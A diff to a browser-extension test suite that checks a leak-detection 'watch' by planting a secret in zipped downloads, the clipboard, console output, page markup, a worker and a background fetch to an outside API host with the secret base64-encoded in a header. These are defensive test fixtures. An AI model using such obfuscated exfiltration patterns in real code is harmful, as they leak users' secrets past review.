@@ -1,3 +1,4 @@
+import { strToU8, zipSync } from 'fflate';
 import { describe, expect } from 'vitest';
 import { openOptions } from '../pages/options-page.ts';
 import { openProfile } from '../pages/profile-page.ts';
@@ -99,6 +100,33 @@ describe('the watch itself', () => {
       link.download = 'report.txt';
       link.click();
     }`);
+    // Packed, so that the file as it is says nothing.
+    const zip = Buffer.from(zipSync({ 'a.txt': strToU8(`notes: ${marked.value}`) }, { level: 9 }));
+    expect(zip.toString('latin1')).not.toContain(marked.value);
+    await page.evaluate(`{
+      const link = document.createElement('a');
+      const bytes = Uint8Array.from(atob('${zip.toString('base64')}'), (one) => one.charCodeAt(0));
+      link.href = URL.createObjectURL(new Blob([bytes]));
+      link.download = 'history.zip';
+      link.click();
+    }`);
+    const studio = await browser.context.newPage();
+    await studio.goto(browser.extensionPage('popup.html'));
+    await browser.context.grantPermissions(['clipboard-read', 'clipboard-write']);
+    await studio.evaluate(`navigator.clipboard.writeText('report ' + ${secret})`);
+    await watch.noteClipboard(studio);
+    await studio.evaluate(`console.info('popup', ${secret})`);
+    await studio.getByLabel('Choose image').evaluate((input, text) => {
+      const field = document.createElement('input');
+      field.value = text;
+      input.after(field);
+    }, marked.value);
+    // What the background sends is not told to the driver; the server hears it.
+    await background.evaluate(
+      `void fetch('https://api.x.com/1.1/x.json', { headers: { 'x-a': btoa('k' + ${secret}) } }).catch(() => null)`,
+    );
+    const pictures = studio.workers()[0] ?? (await studio.waitForEvent('worker'));
+    await pictures.evaluate(`console.log(${secret})`);
     const places = [
       'console: page',
       'console: background',
@@ -110,10 +138,17 @@ describe('the watch itself', () => {
       'address: page',
       'markup: page',
       'download: file',
+      'download: in the zip',
+      'clipboard: text',
+      'text: page',
+      'wire: header x-a',
+      'console: picture worker',
     ];
-    await waitUntil(() => watch.leaks().includes('planted in download: file'), {
+    const areRead = (): boolean =>
+      ['file', 'in the zip'].every((one) => watch.leaks().includes(`planted in download: ${one}`));
+    await waitUntil(areRead, {
       timeoutMs: 10_000,
-      what: 'the download to be read',
+      what: 'the downloads to be read',
     });
     await watch.look();
     expect(watch.leaks()).toEqual(
